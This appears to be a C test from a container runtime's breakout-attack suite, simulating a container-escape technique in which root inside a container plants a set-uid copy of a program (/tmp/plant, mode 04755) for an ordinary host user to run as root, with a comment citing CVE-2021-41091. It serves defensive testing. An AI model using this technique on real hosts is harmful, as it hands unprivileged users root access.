/**
 * @file
 * @brief suidplant: a set-uid program is left for a user of the host.
 *
 * The container's root directory is a directory of the host. Root inside makes
 * a set-uid program there, an ordinary user of the host runs it, and is root:
 * if the file belongs to the host's root, and if it can be reached. A user
 * namespace helps, but files that are mapped (an idmapped mount) belong to root
 * again. So keep container roots below a directory of mode 0700, as Docker does
 * (CVE-2021-41091 is what happens when one does not).
 */
#include <fcntl.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <unistd.h>

#include "tests/attacks/breakouts/breakout.h"

BREAKOUT(suidplant)
{
    int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    int to = open("/tmp/plant", O_WRONLY | O_CREAT | O_CLOEXEC, 0755);

    if (to < 0)
        return stopped("open");
    while (sendfile(to, from, NULL, 1 << 20) > 0)
        ;
    if (fchmod(to, 04755) < 0)
        return stopped("chmod");
    return 0;
}
